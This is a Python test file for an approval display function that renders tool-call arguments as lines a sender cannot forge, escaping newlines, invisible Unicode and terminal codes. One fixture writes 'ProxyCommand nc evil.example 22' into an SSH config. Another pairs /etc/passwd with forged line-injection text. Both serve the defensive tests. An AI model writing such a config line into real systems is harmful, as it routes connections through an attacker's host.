"""Arguments as lines that nobody can forge."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from approver.approvals.outline import BAR, MARK, MOST_LINES, Line, compact, outline, visible

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=20,
)


def text_of(value: dict[str, Any]) -> str:
    return "\n".join(line.text for line in outline(value))


def test_values_stand_aligned_and_nested_ones_indented() -> None:
    assert text_of(
        {
            "path": "/home/ana/.ssh/config",
            "content": "Host *\n  ProxyCommand nc evil.example 22\n",
            "options": {"mode": 420, "tags": ["a", "b"], "deep": {"x": [{"y": None}]}},
            "empty": {},
        }
    ) == (
        "path     “/home/ana/.ssh/config”\n"
        "content  “Host *␊\n"
        "         │  ProxyCommand nc evil.example 22␊\n"
        "         │”\n"
        "options  3 fields\n"
        "  mode  420\n"
        "  tags  [“a”, “b”]\n"
        "  deep  1 field\n"
        "    x  1 item\n"
        "      1.  1 field\n"
        "        y  null\n"
        "empty    {}"
    )


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("5", "“5”"),
        (5, "5"),
        (5.0, "5.0"),
        (True, "true"),
        (1, "1"),
        (None, "null"),
        ("", "“”"),
        (" padded ", "“ padded ”"),
        ([], "[]"),
        ([1, "a"], "[1, “a”]"),
        (["a”, “b"], '["a”, “b"]'),
        (["a”, “b", 'c"d'], '["a”, “b", “c"d”]'),
    ],
)
def test_what_kind_of_value_it_is_can_be_seen(value: Any, shown: str) -> None:
    assert outline({"x": value}) == (Line(f"x  {shown}", 3),)


def test_the_sender_cannot_begin_a_line() -> None:
    forged = "harmless\npath  “/tmp/fine”\r\npath  “/tmp/fine”\u2028path  “/tmp/fine”\x0bpath"
    lines = outline({"text": forged, "path": "/etc/passwd"})
    assert [line.text for line in lines if not line.text.startswith((f"      {BAR}", "text  "))] == [
        "path  “/etc/passwd”"
    ]


def test_a_label_that_is_no_plain_word_is_quoted() -> None:
    lines = outline({"path  “/tmp/fine”": 1, "a\nb": 2, "x": 3})
    assert [line.text for line in lines] == [
        "“path  “/tmp/fine””  1",
        "“a␊b”                2",
        "x                    3",
    ]


def test_an_overlong_label_has_a_line_to_itself() -> None:
    assert outline({"k" * 30: 1, "x": 2}) == (Line("k" * 30, 2), Line("  1", 2), Line("x  2", 3))


def test_what_cannot_be_seen_is_marked() -> None:
    line = outline({"x": "a\u202eb\u200bc\x1b[31md"})[0].text
    assert line == "x  “a⟨U+202E⟩b⟨U+200B⟩c␛[31md”"
    assert len(MARK.findall(line)) == 3


def test_accents_do_not_tower_over_other_lines() -> None:
    assert visible("a" + "\u0301" * 6) == "a\u0301\u0301\u0301\u0301⟨U+0301⟩⟨U+0301⟩"
    assert visible("é\u0323e\u0301") == "é\u0323e\u0301"


@given(st.dictionaries(st.text(max_size=8), JSON, max_size=5))
def test_no_line_holds_a_break_and_nothing_is_left_out(value: dict[str, Any]) -> None:
    text = text_of(value)
    assert all(character == "\n" or character.isprintable() for character in text)
    for words in strings_in(value):
        for piece in words.split("\n"):
            assert visible(piece) in text or json.dumps(visible(piece), ensure_ascii=False)[1:-1] in text


def strings_in(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for key, item in value.items() for text in (key, *strings_in(item))]
    if isinstance(value, list):
        return [text for item in value for text in strings_in(item)]
    return [value] if isinstance(value, str) else []


@pytest.mark.parametrize(
    "value",
    [
        {"x": "\n" * 1_000_000},
        {"x": [[] for _ in range(300_000)]},
        {"x": list(range(200_000))},
        {f"k{number}": number for number in range(100_000)},
        {"x": ["a" * 100 for _ in range(10_000)], "y": {str(number): {} for number in range(3_000)}},
    ],
    ids=["newlines", "empty lists", "numbers", "fields", "mixed"],
)
def test_the_number_of_lines_is_bounded_and_all_is_there(value: dict[str, Any]) -> None:
    lines = outline(value)
    assert len(lines) <= MOST_LINES + 10
    whole = "".join(line.text for line in lines)
    if isinstance(value.get("x"), str):
        assert whole.count("␊") == 1_000_000
    assert "199999" in whole or "k99999" in whole or len(whole) >= 600_000


def test_depth_does_no_harm() -> None:
    value: Any = "bottom"
    for _ in range(50_000):
        value = [value]
    assert "“bottom”" in compact(value)
    lines = outline({"x": value})
    assert "“bottom”" in lines[-1].text
    assert max(line.hang for line in lines) < 80


def test_an_integer_too_long_for_decimal_is_shown_all_the_same() -> None:
    assert outline({"x": 1 << 40_000})[0].text.startswith("x  0x1000")


def test_no_members_are_no_lines() -> None:
    assert outline({}) == ()
